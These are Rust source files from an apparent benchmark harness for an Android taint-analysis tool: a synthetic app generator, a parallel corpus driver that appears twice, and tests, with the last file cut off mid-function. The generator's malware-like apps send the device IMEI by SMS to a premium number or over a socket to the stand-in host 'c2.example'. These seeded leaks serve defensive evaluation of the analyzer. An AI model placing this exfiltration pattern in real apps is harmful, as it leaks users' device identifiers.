    fn table1_rows_cover_all_table_apps() {
        let rows = run_table1();
        assert_eq!(rows.len(), 35);
        let fd: usize = rows.iter().map(|r| r.reported.2).sum();
        assert_eq!(fd, 30, "26 TP + 4 FP");
        let text = format_table1(&rows);
        assert!(text.contains("Precision"));
        assert!(text.contains("FlowDroid"));
    }

    #[test]
    fn rq2_runs() {
        let (found, expected, _) = run_rq2();
        assert_eq!(found, 7);
        assert_eq!(expected, 7);
    }

    #[test]
    fn rq3_parallel_matches_sequential() {
        let seq = run_rq3(AppProfile::MalwareLike, 8, 5);
        let par = run_rq3_parallel(AppProfile::MalwareLike, 8, 5, 4);
        assert_eq!(seq.leaks, par.leaks);
        assert_eq!(seq.apps, par.apps);
    }

    #[test]
    fn rq3_small_sample() {
        let benign = run_rq3(AppProfile::BenignLike, 5, 11);
        let mal = run_rq3(AppProfile::MalwareLike, 5, 11);
        assert_eq!(benign.apps, 5);
        assert!(mal.leaks_per_app >= 1.0);
        // Malware-like apps are smaller → analyze faster on average.
        assert!(mal.mean <= benign.mean * 4);
    }
}
