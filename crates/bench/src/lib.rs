#![warn(missing_docs)]

//! The evaluation harness: regenerates every table of the paper and
//! hosts the Criterion benches.
//!
//! * [`corpus`] — the seeded synthetic app generator standing in for
//!   the paper's Google Play and VirusShare corpora (RQ3), which are
//!   not redistributable (see DESIGN.md §3);
//! * [`driver`] — the parallel corpus driver fanning DroidBench /
//!   SecuriBench apps across a thread pool with deterministic,
//!   name-sorted leak reports (backs the `solver_stats` binary);
//! * [`eval`] — runners and table printers for Table 1, Table 2, RQ2,
//!   RQ3 and the ablations.

pub mod corpus;
pub mod driver;
pub mod eval;

pub use corpus::{generate_app, AppProfile, GeneratedApp};
pub use driver::{
    corpus_report, droid_job, droidbench_corpus, external_job, find_job, full_corpus, micro_job,
    run_corpus, run_corpus_cold_warm, run_single, run_single_lazy, run_single_lazy_deep_clone,
    shared_platform_snapshot, stress_job, AppRun, CorpusJob, CorpusRun,
};
pub use eval::{
    run_ablation_access_path, run_ablation_alias, run_ablation_callbacks, run_rq2, run_rq3,
    run_rq3_parallel, run_table1, run_table2, Rq3Stats, Table1Row,
};
