//! Seeded synthetic app generator (the RQ3 corpus substitute).
//!
//! The paper analyzes 500 popular Google Play apps and ~1,000 VirusShare
//! malware samples; neither corpus is redistributable. This generator
//! produces apps matching the populations the paper describes:
//!
//! * **benign-like** apps are comparatively large (many classes, deep
//!   helper call chains, UI layouts); most "accidentally" leak an
//!   identifier or location into logs or preference files (the paper:
//!   "the majority of apps was reported to … leak sensitive information
//!   like the IMEI or location data into logs and preference files");
//! * **malware-like** apps are small ("the malware samples seem to be
//!   comparatively small") and contain about two leaks each (1.85 on
//!   average), typically identifiers sent via SMS or to a remote server.

use flowdroid_frontend::App;
use flowdroid_ir::Program;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Which population to draw from.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AppProfile {
    /// Large app, 0–2 log/preference leaks.
    BenignLike,
    /// Small app, 1–3 SMS/network leaks.
    MalwareLike,
}

/// One generated app with its ground truth.
#[derive(Debug)]
pub struct GeneratedApp {
    /// Package name.
    pub package: String,
    /// Manifest XML.
    pub manifest: String,
    /// `jasm` code.
    pub code: String,
    /// Number of seeded leaks.
    pub seeded_leaks: usize,
    /// Number of classes generated.
    pub class_count: usize,
}

impl GeneratedApp {
    /// Loads the app into `program` (expects platform stubs installed).
    ///
    /// # Panics
    ///
    /// Panics if the generated code fails to parse (a generator bug).
    pub fn load(&self, program: &mut Program) -> App {
        App::from_parts(program, &self.manifest, &[], &self.code)
            .unwrap_or_else(|e| panic!("generated app {} is invalid: {e}", self.package))
    }
}

/// Deterministically generates app number `index` of the given profile.
pub fn generate_app(profile: AppProfile, index: usize, seed: u64) -> GeneratedApp {
    let mut rng = StdRng::seed_from_u64(seed ^ (index as u64).wrapping_mul(0x9e37_79b9));
    let package = match profile {
        AppProfile::BenignLike => format!("play.app{index}"),
        AppProfile::MalwareLike => format!("mal.sample{index}"),
    };
    let (n_helpers, leak_budget) = match profile {
        AppProfile::BenignLike => (rng.gen_range(8..28), rng.gen_range(0..=2)),
        AppProfile::MalwareLike => (rng.gen_range(1..5), rng.gen_range(1..=3)),
    };

    let main_cls = format!("{package}.Main");
    let mut code = String::new();
    let mut seeded = 0usize;

    // Helper classes: benign busywork forming call chains.
    for h in 0..n_helpers {
        let cls = format!("{package}.Helper{h}");
        let next = if h + 1 < n_helpers {
            format!(
                "    r = staticinvoke <{package}.Helper{}: java.lang.String work(java.lang.String)>(r)\n",
                h + 1
            )
        } else {
            String::new()
        };
        code.push_str(&format!(
            "class {cls} extends java.lang.Object {{\n  static method work(x: java.lang.String) -> java.lang.String {{\n    let r: java.lang.String\n    r = x + \"#\"\n{next}    return r\n  }}\n}}\n"
        ));
    }

    // Main activity.
    code.push_str(&format!(
        "class {main_cls} extends android.app.Activity {{\n  method onCreate(b: android.os.Bundle) -> void {{\n"
    ));
    code.push_str(
        "    let o: java.lang.Object\n    let tm: android.telephony.TelephonyManager\n    let id: java.lang.String\n    let v: java.lang.String\n    let sms: android.telephony.SmsManager\n    let prefs: android.content.SharedPreferences\n    let ed: android.content.SharedPreferences$Editor\n    let sock: java.net.Socket\n    let os: java.io.OutputStream\n",
    );
    code.push_str(
        "    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>(\"phone\")\n    tm = (android.telephony.TelephonyManager) o\n    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()\n",
    );
    // Route the identifier through the helper chain (wall-clock work
    // for the analysis proportional to app size).
    if n_helpers > 0 {
        code.push_str(&format!(
            "    v = staticinvoke <{package}.Helper0: java.lang.String work(java.lang.String)>(id)\n"
        ));
    } else {
        code.push_str("    v = id\n");
    }
    for _ in 0..leak_budget {
        let kind = match profile {
            AppProfile::BenignLike => rng.gen_range(0..2),
            AppProfile::MalwareLike => rng.gen_range(2..4),
        };
        match kind {
            // Benign-style: log / preferences.
            0 => code.push_str(
                "    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>(\"analytics\", v)\n",
            ),
            1 => code.push_str(
                "    prefs = virtualinvoke this.<android.content.Context: android.content.SharedPreferences getSharedPreferences(java.lang.String,int)>(\"ids\", 0)\n    ed = virtualinvoke prefs.<android.content.SharedPreferences: android.content.SharedPreferences$Editor edit()>()\n    virtualinvoke ed.<android.content.SharedPreferences$Editor: android.content.SharedPreferences$Editor putString(java.lang.String,java.lang.String)>(\"imei\", v)\n",
            ),
            // Malware-style: SMS / socket.
            2 => code.push_str(
                "    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()\n    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>(\"+prem\", null, v, null, null)\n",
            ),
            _ => code.push_str(
                "    sock = new java.net.Socket\n    specialinvoke sock.<java.net.Socket: void <init>(java.lang.String,int)>(\"c2.example\", 80)\n    os = virtualinvoke sock.<java.net.Socket: java.io.OutputStream getOutputStream()>()\n    virtualinvoke os.<java.io.OutputStream: void write(java.lang.String)>(v)\n",
            ),
        }
        seeded += 1;
    }
    code.push_str("    return\n  }\n}\n");

    let manifest = format!(
        r#"<manifest package="{package}">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#
    );

    GeneratedApp {
        package,
        manifest,
        code,
        seeded_leaks: seeded,
        class_count: n_helpers + 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_android::install_platform;

    #[test]
    fn generation_is_deterministic() {
        let a = generate_app(AppProfile::MalwareLike, 7, 42);
        let b = generate_app(AppProfile::MalwareLike, 7, 42);
        assert_eq!(a.code, b.code);
        let c = generate_app(AppProfile::MalwareLike, 8, 42);
        assert_ne!(a.code, c.code);
    }

    #[test]
    fn profiles_differ_in_size() {
        let benign: usize =
            (0..20).map(|i| generate_app(AppProfile::BenignLike, i, 1).class_count).sum();
        let mal: usize =
            (0..20).map(|i| generate_app(AppProfile::MalwareLike, i, 1).class_count).sum();
        assert!(benign > 2 * mal, "benign apps are larger: {benign} vs {mal}");
    }

    #[test]
    fn generated_apps_load() {
        for i in 0..5 {
            for profile in [AppProfile::BenignLike, AppProfile::MalwareLike] {
                let g = generate_app(profile, i, 3);
                let mut p = Program::new();
                install_platform(&mut p);
                let app = g.load(&mut p);
                assert_eq!(app.manifest.components.len(), 1);
            }
        }
    }

    #[test]
    fn malware_has_leaks() {
        let leaks: usize =
            (0..50).map(|i| generate_app(AppProfile::MalwareLike, i, 9).seeded_leaks).sum();
        let avg = leaks as f64 / 50.0;
        assert!(avg > 1.0 && avg < 3.0, "malware-like averages ~2 leaks: {avg}");
    }
}
