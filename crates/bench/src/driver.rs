//! Parallel corpus driver: fans the DroidBench and SecuriBench suites
//! across a `std::thread` pool, one whole app per work item.
//!
//! Each per-app analysis is single-threaded (the solver itself is
//! deterministic: intern ids are assigned in first-encounter order by
//! the sequential driver), so the only parallelism-induced
//! nondeterminism is *which worker* finishes first. The driver removes
//! it by sorting results by app name before reporting — the corpus
//! leak report ([`corpus_report`]) is byte-for-byte identical across
//! thread counts and runs.

use flowdroid_android::install_platform;
use flowdroid_core::{
    AbortReason, Infoflow, InfoflowConfig, InfoflowResults, SourceSinkManager, TaintWrapper,
};
use flowdroid_droidbench::{all_apps, insecurebank, BenchApp};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_core::{SchedulerStats, SummaryCacheStats};
use std::path::Path;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;
use flowdroid_securibench::{cases_in, Group, MicroCase, MICRO_DEFS, MICRO_ENV};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

/// What kind of benchmark a corpus entry is.
enum JobKind {
    /// An Android app (DroidBench / InsecureBank): full pipeline with
    /// lifecycle model and dummy main.
    Droid(Box<BenchApp>),
    /// A SecuriBench Micro case: plain-Java analysis from an explicit
    /// `main` entry point.
    Micro(Box<MicroCase>),
}

/// One app (or micro case) of the corpus, with a unique stable name.
pub struct CorpusJob {
    /// Unique name (`droidbench/...`, `securibench/<group>/...`,
    /// `insecurebank`); the corpus report is sorted by it.
    pub name: String,
    kind: JobKind,
}

/// The full benchmark corpus: every DroidBench app (table and
/// supplementary), InsecureBank, and every SecuriBench Micro case.
pub fn full_corpus() -> Vec<CorpusJob> {
    let mut jobs = Vec::new();
    for app in all_apps() {
        jobs.push(CorpusJob {
            name: format!("droidbench/{:?}/{}", app.category, app.name),
            kind: JobKind::Droid(Box::new(app)),
        });
    }
    jobs.push(CorpusJob {
        name: "insecurebank".to_string(),
        kind: JobKind::Droid(Box::new(insecurebank::insecure_bank())),
    });
    for group in Group::all() {
        for case in cases_in(group) {
            jobs.push(CorpusJob {
                name: format!("securibench/{}/{}", group, case.name),
                kind: JobKind::Micro(Box::new(case)),
            });
        }
    }
    jobs
}

/// Only the DroidBench apps (plus InsecureBank) — the Android subset.
pub fn droidbench_corpus() -> Vec<CorpusJob> {
    full_corpus().into_iter().filter(|j| !j.name.starts_with("securibench/")).collect()
}

/// Resolves a job by its corpus name (`droidbench/<Category>/<App>`,
/// `securibench/<group>/<Case>`, `insecurebank`) or the synthetic
/// `stress/<K>` chain (see [`stress_job`]). Returns `None` for unknown
/// names.
pub fn find_job(name: &str) -> Option<CorpusJob> {
    if let Some(k) = name.strip_prefix("stress/") {
        return k.parse().ok().map(stress_job);
    }
    full_corpus().into_iter().find(|j| j.name == name)
}

/// A synthetic straight-line stress app, `stress/<k>`: `k` string
/// locals, each concatenated from its predecessor, between one source
/// and one sink. Every local's taint keeps propagating to the end of
/// the chain, so forward propagations grow roughly as `k²/2` — large
/// `k` yields an arbitrarily long-running but trivially checkable job
/// (exactly one leak), which is what the daemon's deadline and cancel
/// paths are exercised with.
pub fn stress_job(k: usize) -> CorpusJob {
    use std::fmt::Write;
    let k = k.clamp(2, 100_000);
    let mut body = String::new();
    body.push_str("    let s: java.lang.String\n");
    for i in 0..k {
        writeln!(body, "    let v{i}: java.lang.String").unwrap();
    }
    body.push_str("    s = staticinvoke <securibench.Env: java.lang.String source()>()\n");
    body.push_str("    v0 = s\n");
    for i in 1..k {
        writeln!(body, "    v{i} = v{} + v{}", i - 1, i - 1).unwrap();
    }
    writeln!(body, "    staticinvoke <securibench.Env: void sink(java.lang.String)>(v{})", k - 1)
        .unwrap();
    body.push_str("    return\n");
    let code = format!(
        "class stress.Chain extends java.lang.Object {{\n  static method main() -> void {{\n{body}  }}\n}}\n"
    );
    let case = MicroCase {
        name: format!("stress/{k}"),
        group: Group::Basic,
        expected_leaks: 1,
        planned_fps: 0,
        planned_miss: false,
        code,
        entry_class: "stress.Chain".to_string(),
    };
    CorpusJob { name: format!("stress/{k}"), kind: JobKind::Micro(Box::new(case)) }
}

/// The outcome of analyzing one corpus entry.
pub struct AppRun {
    /// The job's name.
    pub name: String,
    /// Leaks reported.
    pub leaks: usize,
    /// Deterministic per-app leak report (header + sorted leak lines).
    pub report: String,
    /// Forward path-edge propagations.
    pub forward_propagations: u64,
    /// Backward (alias) path-edge propagations.
    pub backward_propagations: u64,
    /// Distinct facts interned (0 when interning is off).
    pub distinct_facts: usize,
    /// Distinct access paths interned (0 when interning is off).
    pub distinct_aps: usize,
    /// Whole-pipeline duration for this app (parse + model + call
    /// graph + data flow).
    pub total: Duration,
    /// Data-flow (solver) phase duration only.
    pub dataflow: Duration,
    /// Work-stealing scheduler counters (parallel taint engine only).
    pub scheduler: Option<SchedulerStats>,
    /// Summary-cache counters (persistent summary store only).
    pub summary_cache: Option<SummaryCacheStats>,
    /// Whether the run aborted before the fixpoint (budget, deadline or
    /// cancellation); the report is then a lower bound.
    pub aborted: bool,
    /// Why the run aborted, when [`AppRun::aborted`] is set.
    pub abort_reason: Option<AbortReason>,
}

/// Renders the deterministic per-app leak report: one header line plus
/// one sorted line per leak (`source line -> sink line  taint`).
fn leak_report(name: &str, results: &InfoflowResults, p: &Program) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(out, "== {name}: {} leak(s)", results.leak_count()).unwrap();
    let mut lines: Vec<String> = results
        .leaks
        .iter()
        .map(|l| format!("  {} -> {}  {}", l.source_line(p), l.sink_line(p), l.taint))
        .collect();
    lines.sort();
    for line in lines {
        writeln!(out, "{line}").unwrap();
    }
    out
}

/// Analyzes one corpus job with `config` (including any configured
/// abort handle / summary cache) and returns its outcome. This is the
/// unit the analysis daemon schedules on its worker pool.
pub fn run_single(job: &CorpusJob, config: &InfoflowConfig) -> AppRun {
    let start = Instant::now();
    let (results, report) = match &job.kind {
        JobKind::Droid(app) => {
            let mut p = Program::new();
            let platform = install_platform(&mut p);
            let loaded = app.load(&mut p).expect("suite app parses");
            let sources = SourceSinkManager::default_android();
            let wrapper = TaintWrapper::default_rules();
            let analysis = Infoflow::new(&sources, &wrapper, config)
                .analyze_app(&mut p, &platform, &loaded, "corpus");
            let report = leak_report(&job.name, &analysis.results, &p);
            (analysis.results, report)
        }
        JobKind::Micro(case) => {
            let mut p = Program::new();
            install_platform(&mut p);
            let rt = ResourceTable::new();
            parse_jasm(&mut p, &rt, MICRO_ENV).expect("micro env parses");
            parse_jasm(&mut p, &rt, &case.code).expect("micro case parses");
            let sources = SourceSinkManager::parse(MICRO_DEFS).expect("micro defs parse");
            let wrapper = TaintWrapper::default_rules();
            let entry = p.find_method(&case.entry_class, "main").expect("micro entry");
            let results = Infoflow::new(&sources, &wrapper, config).run(&p, &[entry]);
            let report = leak_report(&job.name, &results, &p);
            (results, report)
        }
    };
    AppRun {
        name: job.name.clone(),
        leaks: results.leak_count(),
        report,
        forward_propagations: results.forward_propagations,
        backward_propagations: results.backward_propagations,
        distinct_facts: results.distinct_facts,
        distinct_aps: results.distinct_aps,
        total: start.elapsed(),
        dataflow: results.duration,
        scheduler: results.scheduler.clone(),
        summary_cache: results.summary_cache.clone(),
        aborted: results.aborted,
        abort_reason: results.abort_reason,
    }
}

/// The outcome of one corpus run.
pub struct CorpusRun {
    /// Per-app outcomes, sorted by app name.
    pub apps: Vec<AppRun>,
    /// Wall-clock time of the whole fan-out.
    pub wall: Duration,
    /// Worker threads used.
    pub threads: usize,
}

impl CorpusRun {
    /// Total leaks across the corpus.
    pub fn total_leaks(&self) -> usize {
        self.apps.iter().map(|a| a.leaks).sum()
    }

    /// Total (forward, backward) propagations across the corpus.
    pub fn total_propagations(&self) -> (u64, u64) {
        let fw = self.apps.iter().map(|a| a.forward_propagations).sum();
        let bw = self.apps.iter().map(|a| a.backward_propagations).sum();
        (fw, bw)
    }

    /// Sum of per-app whole-pipeline durations (CPU-ish time; with one
    /// thread this approximates [`CorpusRun::wall`]).
    pub fn total_app_time(&self) -> Duration {
        self.apps.iter().map(|a| a.total).sum()
    }

    /// Sum of per-app data-flow phase durations.
    pub fn total_dataflow_time(&self) -> Duration {
        self.apps.iter().map(|a| a.dataflow).sum()
    }

    /// Total distinct facts interned across the corpus.
    pub fn total_distinct_facts(&self) -> usize {
        self.apps.iter().map(|a| a.distinct_facts).sum()
    }

    /// Total distinct access paths interned across the corpus.
    pub fn total_distinct_aps(&self) -> usize {
        self.apps.iter().map(|a| a.distinct_aps).sum()
    }

    /// Summary-cache counters summed across the corpus (`None` when no
    /// app ran with a persistent summary store). `store_methods` takes
    /// the maximum rather than the sum — every app sees the same
    /// store — and the first load error encountered is kept.
    pub fn summary_cache_totals(&self) -> Option<SummaryCacheStats> {
        let mut total: Option<SummaryCacheStats> = None;
        for s in self.apps.iter().filter_map(|a| a.summary_cache.as_ref()) {
            let t = total.get_or_insert_with(SummaryCacheStats::default);
            t.hits += s.hits;
            t.misses += s.misses;
            t.stale += s.stale;
            t.recorded += s.recorded;
            t.store_methods = t.store_methods.max(s.store_methods);
            if t.load_error.is_none() {
                t.load_error = s.load_error.clone();
            }
        }
        total
    }

    /// Work-stealing scheduler counters summed across the corpus
    /// (`None` when no app ran the parallel taint engine). Per-shard
    /// pushes are added element-wise, so shard occupancy aggregates
    /// too.
    pub fn scheduler_totals(&self) -> Option<SchedulerStats> {
        let mut total: Option<SchedulerStats> = None;
        for s in self.apps.iter().filter_map(|a| a.scheduler.as_ref()) {
            let t = total.get_or_insert_with(|| SchedulerStats {
                shards: s.shards,
                ..SchedulerStats::default()
            });
            t.pushed += s.pushed;
            t.steals += s.steals;
            t.claims += s.claims;
            if t.pushed_per_shard.len() < s.pushed_per_shard.len() {
                t.pushed_per_shard.resize(s.pushed_per_shard.len(), 0);
            }
            for (i, c) in s.pushed_per_shard.iter().enumerate() {
                t.pushed_per_shard[i] += c;
            }
        }
        total
    }
}

/// Analyzes every job of `jobs` with `config`, fanning apps across
/// `threads` workers (work is claimed from a shared counter, so large
/// apps don't serialize behind one worker). Results come back sorted
/// by app name regardless of completion order.
pub fn run_corpus(jobs: &[CorpusJob], config: &InfoflowConfig, threads: usize) -> CorpusRun {
    let threads = threads.max(1);
    let start = Instant::now();
    let next = AtomicUsize::new(0);
    let results: Mutex<Vec<AppRun>> = Mutex::new(Vec::with_capacity(jobs.len()));
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                let mut local = Vec::new();
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    if i >= jobs.len() {
                        break;
                    }
                    local.push(run_single(&jobs[i], config));
                }
                results.lock().unwrap().extend(local);
            });
        }
    });
    let mut apps = results.into_inner().unwrap();
    apps.sort_by(|a, b| a.name.cmp(&b.name));
    CorpusRun { apps, wall: start.elapsed(), threads }
}

/// Concatenates the per-app leak reports (already name-sorted):
/// byte-for-byte identical across thread counts and repeat runs.
pub fn corpus_report(run: &CorpusRun) -> String {
    run.apps.iter().map(|a| a.report.as_str()).collect()
}

/// Runs the corpus twice against the persistent summary store in
/// `cache_dir`: a *cold* pass that computes (and then flushes) every
/// end summary, followed by a *warm* pass that replays them. The cold
/// pass consumes nothing from the store it is populating (the store's
/// visible/fresh split guarantees this), so its leak report is
/// bit-identical to an uncached run; the warm pass must reproduce the
/// same report while skipping the tabulation work the cache covers.
pub fn run_corpus_cold_warm(
    jobs: &[CorpusJob],
    config: &InfoflowConfig,
    threads: usize,
    cache_dir: &Path,
) -> (CorpusRun, CorpusRun) {
    let mut config = config.clone();
    config.summary_cache = Some(cache_dir.to_path_buf());
    let cold = run_corpus(jobs, &config, threads);
    flowdroid_core::flush_summary_cache(cache_dir).expect("flush summary cache");
    let warm = run_corpus(jobs, &config, threads);
    (cold, warm)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_unique_sorted_names_after_run() {
        let jobs = full_corpus();
        let mut names: Vec<&str> = jobs.iter().map(|j| j.name.as_str()).collect();
        let before = names.len();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), before, "corpus job names must be unique");
        assert!(before > 100, "corpus should cover both suites, got {before}");
    }

    #[test]
    fn single_thread_run_reports_leaks() {
        // A tiny slice keeps this unit test fast; the full-corpus
        // determinism sweep lives in tests/determinism.rs.
        let jobs: Vec<CorpusJob> =
            full_corpus().into_iter().filter(|j| j.name.contains("Basic1")).collect();
        assert!(!jobs.is_empty());
        let run = run_corpus(&jobs, &InfoflowConfig::default(), 1);
        assert_eq!(run.apps.len(), jobs.len());
        let report = corpus_report(&run);
        assert!(report.contains("leak(s)"));
    }
}
