//! Parallel corpus driver: fans the DroidBench and SecuriBench suites
//! across a `std::thread` pool, one whole app per work item.
//!
//! Each per-app analysis is single-threaded (the solver itself is
//! deterministic: intern ids are assigned in first-encounter order by
//! the sequential driver), so the only parallelism-induced
//! nondeterminism is *which worker* finishes first. The driver removes
//! it by sorting results by app name before reporting — the corpus
//! leak report ([`corpus_report`]) is byte-for-byte identical across
//! thread counts and runs.

use flowdroid_android::{build_snapshot, install_platform, PlatformSnapshot};
use flowdroid_core::{
    AbortReason, CgCache, Infoflow, InfoflowConfig, InfoflowResults, SourceSinkManager,
    TaintWrapper,
};
use flowdroid_droidbench::{all_apps, insecurebank, BenchApp};
use flowdroid_frontend::layout::{Layout, ResourceTable};
use flowdroid_frontend::manifest::Manifest;
use flowdroid_core::{SchedulerStats, SummaryCacheStats, TableStats};
use std::path::Path;
use flowdroid_frontend::{parse_jasm, sdex, App};
use flowdroid_ir::{FxHashMap, Program};
use flowdroid_securibench::{cases_in, Group, MicroCase, MICRO_DEFS, MICRO_ENV};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

/// What kind of benchmark a corpus entry is.
enum JobKind {
    /// An Android app (DroidBench / InsecureBank): full pipeline with
    /// lifecycle model and dummy main.
    Droid(Box<BenchApp>),
    /// A SecuriBench Micro case: plain-Java analysis from an explicit
    /// `main` entry point.
    Micro(Box<MicroCase>),
    /// An app supplied from outside the built-in suites — a generated
    /// ground-truth app or an on-disk directory / `.rpk` archive the
    /// daemon was allowed to serve. Carries the raw artifacts
    /// (`App::from_parts` inputs) so the job owns its sources.
    External {
        /// `AndroidManifest.xml` text.
        manifest: String,
        /// `(layout name, layout XML)` pairs.
        layouts: Vec<(String, String)>,
        /// `classes.jasm` source text.
        code: String,
    },
}

/// One app (or micro case) of the corpus, with a unique stable name.
pub struct CorpusJob {
    /// Unique name (`droidbench/...`, `securibench/<group>/...`,
    /// `insecurebank`); the corpus report is sorted by it.
    pub name: String,
    kind: JobKind,
}

/// Wraps a DroidBench-style [`BenchApp`] as a corpus job under an
/// explicit name (the ground-truth harness names its generated apps by
/// scenario and seed).
pub fn droid_job(name: String, app: BenchApp) -> CorpusJob {
    CorpusJob { name, kind: JobKind::Droid(Box::new(app)) }
}

/// Wraps a SecuriBench-style [`MicroCase`] as a corpus job named after
/// the case.
pub fn micro_job(case: MicroCase) -> CorpusJob {
    CorpusJob { name: case.name.clone(), kind: JobKind::Micro(Box::new(case)) }
}

/// Wraps raw app artifacts (manifest, layouts, `jasm` code) as a corpus
/// job. `name` MUST be unique per *content*: the demand-driven frontend
/// caches the prepared SDEX image by job name for the process lifetime,
/// so callers loading arbitrary on-disk apps must fold a content hash
/// into the name (see the daemon's external-app loader).
pub fn external_job(
    name: String,
    manifest: String,
    layouts: Vec<(String, String)>,
    code: String,
) -> CorpusJob {
    CorpusJob { name, kind: JobKind::External { manifest, layouts, code } }
}

/// The full benchmark corpus: every DroidBench app (table and
/// supplementary), InsecureBank, and every SecuriBench Micro case.
pub fn full_corpus() -> Vec<CorpusJob> {
    let mut jobs = Vec::new();
    for app in all_apps() {
        jobs.push(CorpusJob {
            name: format!("droidbench/{:?}/{}", app.category, app.name),
            kind: JobKind::Droid(Box::new(app)),
        });
    }
    jobs.push(CorpusJob {
        name: "insecurebank".to_string(),
        kind: JobKind::Droid(Box::new(insecurebank::insecure_bank())),
    });
    for group in Group::all() {
        for case in cases_in(group) {
            jobs.push(CorpusJob {
                name: format!("securibench/{}/{}", group, case.name),
                kind: JobKind::Micro(Box::new(case)),
            });
        }
    }
    jobs
}

/// Only the DroidBench apps (plus InsecureBank) — the Android subset.
pub fn droidbench_corpus() -> Vec<CorpusJob> {
    full_corpus().into_iter().filter(|j| !j.name.starts_with("securibench/")).collect()
}

/// Resolves a job by its corpus name (`droidbench/<Category>/<App>`,
/// `securibench/<group>/<Case>`, `insecurebank`) or the synthetic
/// `stress/<K>` chain (see [`stress_job`]). Returns `None` for unknown
/// names.
pub fn find_job(name: &str) -> Option<CorpusJob> {
    if let Some(k) = name.strip_prefix("stress/") {
        return k.parse().ok().map(stress_job);
    }
    full_corpus().into_iter().find(|j| j.name == name)
}

/// A synthetic straight-line stress app, `stress/<k>`: `k` string
/// locals, each concatenated from its predecessor, between one source
/// and one sink. Every local's taint keeps propagating to the end of
/// the chain, so forward propagations grow roughly as `k²/2` — large
/// `k` yields an arbitrarily long-running but trivially checkable job
/// (exactly one leak), which is what the daemon's deadline and cancel
/// paths are exercised with.
pub fn stress_job(k: usize) -> CorpusJob {
    use std::fmt::Write;
    let k = k.clamp(2, 100_000);
    let mut body = String::new();
    body.push_str("    let s: java.lang.String\n");
    for i in 0..k {
        writeln!(body, "    let v{i}: java.lang.String").unwrap();
    }
    body.push_str("    s = staticinvoke <securibench.Env: java.lang.String source()>()\n");
    body.push_str("    v0 = s\n");
    for i in 1..k {
        writeln!(body, "    v{i} = v{} + v{}", i - 1, i - 1).unwrap();
    }
    writeln!(body, "    staticinvoke <securibench.Env: void sink(java.lang.String)>(v{})", k - 1)
        .unwrap();
    body.push_str("    return\n");
    let code = format!(
        "class stress.Chain extends java.lang.Object {{\n  static method main() -> void {{\n{body}  }}\n}}\n"
    );
    let case = MicroCase {
        name: format!("stress/{k}"),
        group: Group::Basic,
        expected_leaks: 1,
        planned_fps: 0,
        planned_miss: false,
        code,
        entry_class: "stress.Chain".to_string(),
    };
    CorpusJob { name: format!("stress/{k}"), kind: JobKind::Micro(Box::new(case)) }
}

/// The process-wide platform snapshot lazy runs start from: built once,
/// then cheaply cloned per job. The daemon builds (or loads) its own
/// snapshot and passes it to [`run_single_lazy`] directly; this
/// accessor backs standalone [`run_single`] calls with
/// `config.lazy_frontend` set.
pub fn shared_platform_snapshot() -> &'static Arc<PlatformSnapshot> {
    static SNAP: OnceLock<Arc<PlatformSnapshot>> = OnceLock::new();
    SNAP.get_or_init(|| Arc::new(build_snapshot()))
}

/// A corpus job pre-lowered for the demand-driven frontend: the app's
/// code encoded as an SDEX image (so method bodies have a byte index to
/// defer to) plus the non-code artifacts, parsed once and cloned per
/// run. Corpus apps are authored in `jasm` text, which has no body
/// index — this registry is what makes `bodies_skipped` possible on
/// them.
enum Prepared {
    /// An Android app: everything [`App::from_archive_lazy`] would
    /// produce, split so the job program only pays for lazy SDEX decode.
    Droid {
        manifest: Manifest,
        layouts: FxHashMap<String, Layout>,
        resources: ResourceTable,
        sdex: Arc<[u8]>,
    },
    /// A SecuriBench Micro case: env + case classes, one entry class.
    Micro { sdex: Arc<[u8]>, entry_class: String },
}

/// A [`Prepared`] job plus its fingerprint: FNV-1a 64 over the platform
/// snapshot checksum and the SDEX bytes. The same transitive-hash
/// discipline as the summary store — repeat jobs replay a cached
/// callgraph only when both the app bytes and the platform they were
/// computed against are unchanged.
struct PreparedJob {
    fingerprint: u64,
    form: Prepared,
}

/// FNV-1a 64 over the platform fingerprint and the app's SDEX image.
fn app_fingerprint(platform_fingerprint: u64, sdex: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in platform_fingerprint.to_le_bytes().into_iter().chain(sdex.iter().copied()) {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Returns the cached [`PreparedJob`] form of `job`, encoding it on
/// first use. Keyed by the job's unique name; preparation is
/// deterministic, so a racing duplicate insert is harmless (first one
/// wins).
fn prepared_for(job: &CorpusJob, snapshot: &PlatformSnapshot) -> Arc<PreparedJob> {
    static REG: OnceLock<Mutex<FxHashMap<String, Arc<PreparedJob>>>> = OnceLock::new();
    let reg = REG.get_or_init(|| Mutex::new(FxHashMap::default()));
    if let Some(p) = reg.lock().unwrap().get(&job.name) {
        return p.clone();
    }
    let prepared = Arc::new(prepare(job, snapshot));
    reg.lock().unwrap().entry(job.name.clone()).or_insert(prepared).clone()
}

/// Parses a job's `jasm` text against a scratch platform program and
/// encodes the app classes into an SDEX image.
fn prepare(job: &CorpusJob, snapshot: &PlatformSnapshot) -> PreparedJob {
    let mut scratch = snapshot.overlay_program();
    match &job.kind {
        JobKind::Droid(app) => {
